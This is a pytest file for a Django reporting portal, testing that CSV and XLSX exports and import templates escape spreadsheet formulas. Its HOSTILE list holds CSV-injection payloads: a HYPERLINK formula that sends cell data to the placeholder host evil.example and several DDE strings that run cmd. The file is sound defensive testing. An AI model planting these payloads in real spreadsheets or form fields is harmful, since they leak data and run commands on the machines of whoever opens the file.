"""Text a user typed never becomes a live formula in a file the portal writes (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import safe_cell, unescaped
from dashboards import exports
from dashboards.services import Column, Table
from milestones import imports
from milestones.models import KpiValue, QuarterlyReport

from .api import EN
from .factories import QuarterlyReportFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe_and_comes_back_without_it(text):
    assert safe_cell(text) == "'" + text
    assert unescaped(safe_cell(text)) == text


@pytest.mark.parametrize("text", ["-12", "+3,5", "-1.234,5", "12 %", "Lào Cai", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert safe_cell(text) == text
    assert unescaped(text) == text


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5
    assert safe_cell(None) is None


def hostile_table() -> Table:
    return Table(
        key="agreements",
        title="=Agreements",
        columns=[Column("name", "=Name"), Column("count", "Count", kind="count")],
        rows=[{"name": text, "count": -3} for text in HOSTILE],
    )


def test_the_csv_export_escapes_every_formula():
    # The Vietnamese Excel's CSV: semicolons between cells.
    response = exports.export(hostile_table(), "csv", "national")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["'=Name", "Count"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-3"}


def test_the_xlsx_export_stores_every_formula_as_text():
    response = exports.export(hostile_table(), "xlsx", "national")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [sheet.cell(row=row, column=1) for row in range(1, len(HOSTILE) + 2)]
    # XML keeps a carriage return as a line feed; either way the cell is text.
    assert [cell.value for cell in cells] == ["=Name", *(t.replace("\r", "\n") for t in HOSTILE)]
    assert {cell.data_type for cell in cells} == {"s"}, "a formula cell would have type f"
    assert all(cell.quotePrefix for cell in cells)
    assert sheet.cell(row=2, column=2).value == -3


@pytest.fixture
def hostile_note(laocai):
    report = QuarterlyReportFactory(agreement=laocai.agreement, quarter=20214)
    KpiValue.objects.create(report=report, kpi=laocai.bts_total, value=1100, note=HOSTILE[0])
    return report


@pytest.mark.django_db
def test_the_csv_template_escapes_a_note_and_reimports_it_unchanged(
    client, staff_laocai, hostile_note
):
    client.force_login(staff_laocai)
    response = client.get(
        reverse("milestones:import-template"), {"quarter": "2021Q4", "format": "csv"}, **EN
    )
    content = response.content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert ["'" + HOSTILE[0]] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
    plan = imports.plan_import(imports.read_rows(content, "t.csv"), staff_laocai)
    assert plan.changes == [], "the note reads back as it was saved"


@pytest.mark.django_db
def test_the_xlsx_template_stores_a_note_as_text_and_reimports_it_unchanged(
    client, staff_laocai, hostile_note
):
    client.force_login(staff_laocai)
    response = client.get(
        reverse("milestones:import-template"), {"quarter": "2021Q4", "format": "xlsx"}, **EN
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    notes = [cell for cell in sheet["L"] if cell.value == HOSTILE[0]]
    assert len(notes) == 1
    assert notes[0].data_type == "s"
    plan = imports.plan_import(imports.read_rows(response.content, "t.xlsx"), staff_laocai)
    assert plan.changes == []
    assert QuarterlyReport.objects.get(pk=hostile_note.pk).version == hostile_note.version
